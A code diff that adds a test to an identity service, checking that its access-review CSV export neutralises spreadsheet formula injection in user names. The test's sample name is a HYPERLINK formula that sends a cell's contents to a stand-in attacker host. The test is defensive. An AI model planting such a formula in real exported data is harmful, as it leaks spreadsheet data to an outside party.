@@ -9,6 +9,7 @@ import io
 
 from sqlalchemy import select
 
+from identity import admin_ops
 from identity.models import AuditEvent
 from tests.identity.admin_flows import admin_token, bearer, org_id_of, user_id_of
 from tests.identity.flows import portal_tokens
@@ -177,3 +178,29 @@ async def test_access_review_as_json_and_csv(identity: IdentityHarness) -> None:
     assert exported.headers["content-type"].startswith("text/csv")
     rows = list(csv.DictReader(io.StringIO(exported.text)))
     assert {r["username"] for r in rows} == set(people) and rows[0]["mfa"] in ("yes", "no")
+
+
+async def test_the_access_review_csv_writes_no_live_formula(identity: IdentityHarness) -> None:
+    """Names are tenant text: a name beginning `=` (or +, -, @, tab, CR) stays text."""
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    org = await org_id_of(identity, EVERGREEN)
+    async with identity.session() as session:
+        user = await admin_ops.create_user(
+            session,
+            identity.settings,
+            "formula.person",
+            "formula@evergreen.example",
+            "Formula.Passw0rd-77",
+            given_name=hostile,
+            family_name="",
+        )
+        await admin_ops.add_membership(session, user.id, org, "subscriber", [])
+        await session.commit()
+    token = await admin_token(identity, "ever.admin")
+    async with identity.client(headers=bearer(token)) as api:
+        exported = await api.get(
+            f"/api/v1/organizations/{org}/access-review", params={"format": "csv"}
+        )
+    rows = {r["username"]: r for r in csv.DictReader(io.StringIO(exported.text))}
+    assert rows["formula.person"]["name"] == "'" + hostile
+    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows.values() for v in r.values())
